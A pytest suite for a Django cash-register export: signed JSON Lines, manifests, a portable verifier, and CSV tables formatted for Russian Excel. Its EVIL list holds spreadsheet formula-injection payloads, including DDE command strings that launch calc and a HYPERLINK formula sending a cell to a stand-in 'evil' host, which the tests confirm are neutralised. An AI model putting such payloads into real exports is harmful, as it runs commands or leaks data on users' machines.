"""What the files of an export say, line by line, and that no spreadsheet obeys them."""

import ast
import csv
import hashlib
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.db import connection
from django.utils.translation import override
from hypothesis import given
from hypothesis import strategies as st

from kkm import fast_json, journal, signing
from kkm.domain.balance import Balance
from kkm.domain.finding import Rule
from kkm.domain.kinds import OperationKind, PaymentType
from kkm.domain.money import tenge
from kkm.domain.ticket import Position, ShiftClosing, Ticket
from kkm.errors import KeyUnavailable
from kkm.export.archive import DOMAIN, Archive, code
from kkm.export.plan import plan
from kkm.export.portable import (
    csv_tables,
    excel_cells,
    export_format,
    russian_findings,
    russian_names,
)
from kkm.models import FiscalOperation, ZReport
from kkm.models.operation import BALANCE_COLUMNS, KIND_NAMES, PAYMENT_NAMES
from tests.kkm.export.making import (
    NOW,
    TODAY,
    checked,
    forge,
    json_lines,
    manifest_of,
    unpack,
    unpacked,
)
from tests.stories import close, deposit, sell

pytestmark = pytest.mark.django_db
ROOT = Path(settings.BASE_DIR)


@pytest.fixture
def day(active_kkm, now):
    """An activation, a deposit, a sale, a Z: operations 1 to 4."""
    deposit(active_kkm, 500, at=now)
    sell(active_kkm, 1160, at=now)
    close(active_kkm, at=now + timedelta(hours=2))
    return active_kkm


def table(folder, name):
    """The rows of a CSV as a spreadsheet reads them: dictionaries by the header."""
    with (folder / name).open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, delimiter=";"))


# -- JSON Lines ------------------------------------------------------------------------------------


def test_an_operation_is_a_line_with_everything_that_its_seal_covers(day, tmp_path):
    sale = json_lines(unpacked(day, tmp_path) / "operations.jsonl")[2]
    stored = day.operations.get(number=3)
    assert sale == {
        "number": 3,
        "kind": 2,
        "shift": 1,
        "occurred": 1773298800,
        "received": 1773298800,
        "offline": False,
        "actor_code": "1",
        "actor_name": "Ахметова А.К.",
        "external_number": "",
        "fiscal_sign": stored.fiscal_sign,
        "amount": 116_000,
        "payments": {"cash": 116_000, "card": 0, "credit": 0, "tare": 0, "mobile": 0},
        "change": 0,
        "balance": stored.balance.cells,
        "details": "",
        "seal": stored.seal,
        "lines": [
            {
                "role": 0,
                "section": "01",
                "name": "Хлеб",
                "quantity": 1000,
                "price": 116_000,
                "goods": 116_000,
                "discount": 0,
                "markup": 0,
                "rate": 16_000,
                "vat": 16_000,
                "details": "",
            }
        ],
        "z": "",
    }


def test_a_z_is_a_line_and_its_closing_has_the_same_text(day, tmp_path):
    folder = unpacked(day, tmp_path)
    text = ZReport.objects.get().text
    assert (folder / "z.jsonl").read_text(encoding="utf-8") == text + "\n"
    assert json_lines(folder / "operations.jsonl")[3]["z"] == text


def test_heads_are_as_they_were_signed(day, tmp_path):
    rows = json_lines(unpacked(day, tmp_path) / "heads.jsonl")
    assert [row["number"] for row in rows] == [1, 4]
    assert all(signing.verify(row["text"], row["key"], row["signature"]) for row in rows)


def test_the_manifest_has_the_sum_of_every_other_file_and_is_signed(day, tmp_path):
    folder = unpacked(day, tmp_path)
    manifest = manifest_of(folder)
    files = {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file()
    }
    sums = {
        name: (len(content), hashlib.sha256(content).hexdigest()) for name, content in files.items()
    }
    signed = json.loads(files["manifest.sig"])
    assert manifest.files == {
        name: told for name, told in sums.items() if not name.startswith("manifest.")
    }
    assert signing.verify(files["manifest.json"].decode(), signed["key"], signed["signature"])
    assert manifest.counts == {"operations": 4, "positions": 1, "zs": 1, "heads": 2}
    assert (manifest.first, manifest.last, manifest.period) == (1, 4, ("2026-03-12", "2026-03-13"))
    assert manifest.kkm["registration_numbers"] == day.open_registration.registration_number
    assert (manifest.kkm["taxpayer"], manifest.made_at) == (
        day.taxpayer.name,
        "2026-03-13T09:00:00+05:00",
    )


def test_the_keys_are_those_of_the_public_page_an_old_one_too(day, tmp_path):
    signing.rotate()
    folder = unpacked(day, tmp_path)
    assert {
        path.stem: path.read_text() for path in (folder / "keys").iterdir()
    } == signing.public_keys()
    assert len(signing.public_keys()) >= 2
    assert checked(folder).holds


@given(
    st.recursive(
        st.none()
        | st.booleans()
        | st.integers(-(2**63), 2**63 - 1)
        | st.text(st.characters(exclude_categories=["Cs"])),
        st.lists,
    )
)
def test_the_fast_writer_and_the_standard_library_write_the_same_bytes(value):
    assert fast_json.encode({"значение": value}) == export_format.encode({"значение": value})


def test_who_downloads_slowly_holds_no_transaction_open(world):
    archive = Archive(plan(world.kkm, None, today=TODAY), now=NOW)
    assert {len(connection.savepoint_ids) for _piece in archive.stream()} == {
        len(connection.savepoint_ids)
    }


def test_the_progress_comes_to_the_total(world):
    told = []
    archive = Archive(plan(world.kkm, None, today=TODAY), now=NOW, progress=told.append)
    for _piece in archive.stream():
        assert sum(told) <= archive.total
    assert (sum(told), archive.total) == (174, 174)


def test_without_a_key_nothing_is_begun(world, settings, tmp_path):
    settings.PRODUCTION, settings.SIGNING_KEYS = True, tmp_path / "none"
    with pytest.raises(KeyUnavailable):
        Archive(plan(world.kkm, None, today=TODAY), now=NOW)


# -- the check that travels ------------------------------------------------------------------------


def test_the_code_is_what_the_check_imports_and_no_more():
    found, todo = set(), {ROOT / "kkm/export/portable/command_line.py"}
    while todo:
        path = todo.pop()
        found.add(path)
        nodes = [
            node
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
            if isinstance(node, ast.ImportFrom)
        ]
        named = [
            f"{node.module}.{alias.name}"
            for node in nodes
            if node.module.startswith("kkm")
            for alias in node.names
        ]
        paths = {
            ROOT / f"{name.replace('.', '/')}.py"
            for dotted in named
            for name in (dotted, dotted.rpartition(".")[0])
        }
        todo |= {path for path in paths if path.exists()} - found
    packages = {path.parent / "__init__.py" for path in found} | {
        ROOT / "kkm/__init__.py",
        ROOT / "kkm/export/__init__.py",
    }
    assert set(code()) == found | packages
    assert {path.stem for path in found if path.parent.name == "domain"} == set(DOMAIN)


def test_the_readme_says_in_both_languages_how_to_check_and_where_the_keys_are(
    day, tmp_path, settings
):
    settings.CABINET_URL = "https://alsep.example/"
    text = (unpacked(day, tmp_path) / "ПРОЧТИ.txt").read_text(encoding="utf-8")
    russian, kazakh = text.split("-" * 100)
    for part in (russian, kazakh):
        assert "python3 verify.py" in part
        assert "https://alsep.example/keys/" in part
        assert day.serial_number in part
        assert "№ 1 — 4" in part
    assert "КАК ПРОВЕРИТЬ" in russian
    assert "ҚАЛАЙ ТЕКСЕРУГЕ БОЛАДЫ" in kazakh
    assert "{" not in text


# -- tables ----------------------------------------------------------------------------------------


def test_a_table_opens_in_a_russian_excel(day, tmp_path):
    raw = (unpacked(day, tmp_path) / "operations.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf" + "№;Вид;Смена;Время;".encode())
    assert raw.count(b"\r\n") == 5


def test_the_tables_say_what_the_operations_are(day, tmp_path):
    folder = unpacked(day, tmp_path)
    activation, placed, sale, closing = table(folder, "operations.csv")
    (line,) = table(folder, "positions.csv")
    (z,) = table(folder, "z.csv")
    assert (activation["Вид"], activation["Смена"], activation["Исполнитель"]) == (
        "Постановка на учёт",
        "",
        "Сериков Н.Б.",
    )
    assert (placed["Вид"], placed["Сумма"], placed["Внесений за всё время"]) == (
        "Внесение",
        "500,00",
        "1",
    )
    assert (sale["Время"], sale["Сумма"], sale["Наличные"], sale["Автономно"]) == (
        "12.03.2026 12:00:00",
        "1160,00",
        "1160,00",
        "нет",
    )
    assert (closing["Вид"], closing["Наличных в кассе"]) == ("Закрытие смены (Z-отчёт)", "1660,00")
    assert (line["Наименование"], line["Количество"], line["Ставка НДС, %"], line["НДС"]) == (
        "Хлеб",
        "1,000",
        "16,00",
        "160,00",
    )
    assert (z["Смена №"], z["Открыта"], z["Закрыта"]) == (
        "1",
        "12.03.2026 12:00:00",
        "12.03.2026 14:00:00",
    )
    assert (z["Продажа: чеков"], z["Продажа: сумма"], z["Продажа: НДС"], z["Выручка"]) == (
        "1",
        "1160,00",
        "160,00",
        "1160,00",
    )


def test_the_columns_of_the_tables_are_named_as_in_the_cabinet():
    with override("ru"):
        assert {kind: str(name) for kind, name in KIND_NAMES.items()} == russian_names.KINDS
        assert (
            tuple(str(PAYMENT_NAMES[payment]) for payment in PaymentType)
            == russian_names.PAYMENT_NAMES
        )
        names = [
            str(FiscalOperation._meta.get_field(BALANCE_COLUMNS[name]).verbose_name)
            for name in Balance._fields
        ]
    assert [name.lower() for name in russian_names.BALANCES] == names
    assert set(russian_findings.WRONG) == set(Rule)


def test_every_row_has_as_many_cells_as_the_header(world, tmp_path):
    folder = unpacked(world.kkm, tmp_path)
    for name in csv_tables.HEADERS:
        with (folder / name).open(encoding="utf-8-sig", newline="") as file:
            widths = {len(row) for row in csv.reader(file, delimiter=";")}
        assert widths == {len(csv_tables.HEADERS[name])}


@given(st.integers(1_100_000_000, 2_000_000_000))
def test_the_clock_of_the_tables_is_that_of_the_country(seconds):
    assert (
        csv_tables.clock(seconds)
        == f"{datetime.fromtimestamp(seconds, ZoneInfo('Asia/Almaty')):%d.%m.%Y %H:%M:%S}"
    )


@pytest.mark.parametrize("seconds", [1_709_229_599, 1_709_229_600])
def test_the_clock_is_put_back_on_the_first_of_march_2024(seconds):
    assert (
        csv_tables.clock(seconds)
        == f"{datetime.fromtimestamp(seconds, ZoneInfo('Asia/Almaty')):%d.%m.%Y %H:%M:%S}"
    )


@pytest.mark.parametrize(
    ("seconds", "said"),
    [(-1, "01.01.1970 05:59:59"), (2**62, str(2**62)), (-(2**62), str(-(2**62)))],
)
def test_a_time_that_is_none_is_written_somehow(seconds, said):
    assert csv_tables.clock(seconds) == said


@pytest.mark.parametrize(
    ("write", "value", "said"),
    [
        (csv_tables.money, 0, "0,00"),
        (csv_tables.money, -5, "-0,05"),
        (csv_tables.money, 123_456_789_012_345, "1234567890123,45"),
        (csv_tables.thousandths, 450, "0,450"),
        (csv_tables.thousandths, 12_000, "12,000"),
        (csv_tables.percent, 16_000, "16,00"),
        (csv_tables.percent, 12_500, "12,50"),
    ],
)
def test_figures_have_a_decimal_comma_and_no_spaces(write, value, said):
    assert write(value) == said


EVIL = [
    "=cmd|'/C calc'!A0",
    "+7 (727) 250",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "%0A=1+1",
    "|calc",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    '=HYPERLINK("http://evil/?"&A1;"чек")',
]


@pytest.mark.parametrize("evil", EVIL)
def test_no_text_of_a_table_is_a_formula(evil):
    assert excel_cells.text(evil) == f"'{evil}"


@pytest.mark.parametrize("plain", ["", "Хлеб", "a=b", "«=»", "'=a", "№ 7 чай", "7UP", "Кассир 1"])
def test_a_plain_text_is_left_alone(plain):
    assert excel_cells.text(plain) == plain


LIKE_FIGURES = [
    *(
        "1-2",
        "12E5",
        "12e5",
        "00123",
        "01",
        "0",
        "1234567890123456789",
        "5%",
        "1/2",
        "(5)",
        "1 000,50",
    ),
    *(
        "12:30",
        "2:30 PM",
        "01.02.2026",
        "1.5",
        "5 мар",
        "март 5",
        "2-MAR",
        "MARCH1",
        "SEPT2",
        "дек.26",
    ),
    *(
        "5 ₸",
        "₸5",
        "5 тг",
        "$5",
        "10 р.",
        "№ 7",
        " 12",
        "12 ",
        "ИСТИНА",
        "true",
        "#Н/Д",
        "#N/A",
        '5"',
    ),
    *("5 наурыз", "１２", "٣", "\u00a012", "1\u202f000"),
]


@pytest.mark.parametrize("like", LIKE_FIGURES)
def test_a_text_that_looks_like_a_figure_is_the_result_of_a_formula(like):
    doubled = like.replace('"', '""')
    assert excel_cells.text(like) == f'="{doubled}"'


def test_a_text_of_digits_that_is_too_long_for_a_formula_gets_an_apostrophe():
    assert excel_cells.text("7" * 255) == f'="{"7" * 255}"'
    assert excel_cells.text("7" * 256) == f"'{'7' * 256}"


STRING = re.compile(r'="((?:[^"]|"")*)"')


@given(st.text(max_size=300) | st.text("0123456789 -+=@.,:/eE\"'мар", max_size=20))
def test_a_cell_is_a_plain_text_or_a_constant_and_says_what_was_sealed(value):
    cell = excel_cells.text(value)
    constant = STRING.fullmatch(cell)
    if constant:
        assert constant[1].replace('""', '"') == value
    else:
        assert cell.removeprefix("'" * (cell != value)) == value
        assert cell == f"'{value}" or cell.strip()[:1] not in ("=", "+", "-", "@")


def test_texts_that_look_like_figures_stay_texts_in_every_table(active_kkm, now, tmp_path):
    position = Position(
        name="1-2",
        quantity=1000,
        price=tenge(7),
        section="01",
        rate=16_000,
        details={"code": "12E5"},
    )
    who = {"actor_code": "007", "actor_name": "12E5", "external_number": "00123"}
    entry = Ticket(
        at=now,
        kind=OperationKind.SALE,
        positions=(position,),
        payments={PaymentType.CASH: tenge(7)},
        **who,
    )
    operation = journal.record(kkm=active_kkm, entry=entry, received_at=now).operation
    closing = ShiftClosing(at=now, actor_code="007", actor_name="1-2")
    journal.record(kkm=active_kkm, entry=closing, received_at=now)
    folder = unpacked(active_kkm, tmp_path)
    sale = table(folder, "operations.csv")[1]
    assert (sale["Код исполнителя"], sale["Исполнитель"]) == ('="007"', '="12E5"')
    assert sale["Внешний номер"] == '="00123"'
    assert sale["Фискальный признак"] == f'="{operation.fiscal_sign}"'
    (line,) = table(folder, "positions.csv")
    assert (line["Секция"], line["Наименование"]) == ('="01"', '="1-2"')
    (z,) = table(folder, "z.csv")
    assert (z["Смена №"], z["Код исполнителя"], z["Исполнитель"]) == ("1", '="007"', '="1-2"')
    told = json_lines(folder / "operations.jsonl")[1]
    assert (told["external_number"], told["lines"][0]["section"]) == ("00123", "01")
    assert told["lines"][0]["name"] == "1-2"
    assert checked(folder).holds


def test_an_export_of_version_1_is_found_whole_by_the_check_of_today(tmp_path):
    old = ROOT / "tests/data/export-1.zip"
    assert checked(old).holds
    folder = unpack(old.read_bytes(), tmp_path)
    names = [line["Наименование"] for line in table(folder, "positions.csv")]
    assert names == ["00123", "1-2", "12E5", "'=1+1", "Хлеб"]


def test_a_table_of_version_1_that_was_edited_is_found(tmp_path):
    folder = unpack((ROOT / "tests/data/export-1.zip").read_bytes(), tmp_path)
    path = folder / "positions.csv"
    path.write_bytes(path.read_bytes().replace(b";00123;", b';"=""00123""";'))
    forge(folder)
    outcome = checked(folder)
    said = f"positions.csv: об операции № 3 сказано не то, что в {export_format.OPERATIONS}"
    assert said in outcome.faults


@pytest.mark.parametrize("evil", [one for one in EVIL if one[0] not in "\t\r\n"])
def test_whoever_names_goods_or_himself_a_formula_is_quoted_in_every_table(
    active_kkm, now, tmp_path, evil
):
    position = Position(
        name=evil,
        quantity=1000,
        price=tenge(7),
        section=evil[:20],
        rate=16_000,
        details={"code": evil},
    )
    who = {"actor_code": evil[:50], "actor_name": evil, "external_number": evil[:50]}
    entry = Ticket(
        at=now,
        kind=OperationKind.SALE,
        positions=(position,),
        payments={PaymentType.CASH: tenge(7)},
        **who,
    )
    journal.record(kkm=active_kkm, entry=entry, received_at=now)
    folder = unpacked(active_kkm, tmp_path)
    shown = [
        cell
        for name in ("operations.csv", "positions.csv")
        for row in table(folder, name)
        for cell in row.values()
    ]
    assert shown.count(f"'{evil}") >= 2
    formulas = [cell for cell in shown if cell[:1] and cell[0] in "=+-@\t\r\n|%＝＋－＠"]
    assert [cell for cell in formulas if not STRING.fullmatch(cell)] == []
    assert json_lines(folder / "operations.jsonl")[1]["lines"][0]["name"] == evil
    assert checked(folder).holds


def test_quotes_semicolons_and_lines_in_a_name_stay_in_their_cell(active_kkm, now, tmp_path):
    sell(active_kkm, at=now, actor_name='Ахметова; "А.К."')
    folder = unpacked(active_kkm, tmp_path)
    assert table(folder, "operations.csv")[1]["Исполнитель"] == 'Ахметова; "А.К."'
    assert csv_tables.Table().rows([["a\r\n=1", "б"]]) == '"a\r\n=1";б\r\n'.encode()


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{}",
        "[]",
        "[" * 100_000,
        '{"heading":[],"totals":1,"closing":null}',
        '{"heading":{"a":"\\ud800"}}',
    ],
)
def test_what_is_no_z_leaves_its_row_empty(text):
    assert set(csv_tables.z_row(text)) == {""}


def test_a_z_with_cells_of_other_types_is_written_all_the_same():
    text = '{"heading":{"cashier_name":"\\ud800","opened_at":7},"totals":{"amount/2":"x","vat/2/none":null},"closing":{"cash":[]}}'
    assert (
        csv_tables.Table()
        .rows([csv_tables.z_row(text)])
        .startswith(b';;;"=""7""";;;\\ud800;0;0,00;0,00;')
    )


def test_times_are_in_utc_plus_five():
    assert (
        csv_tables.clock(int(datetime(2026, 3, 12, 7, tzinfo=UTC).timestamp()))
        == "12.03.2026 12:00:00"
    )
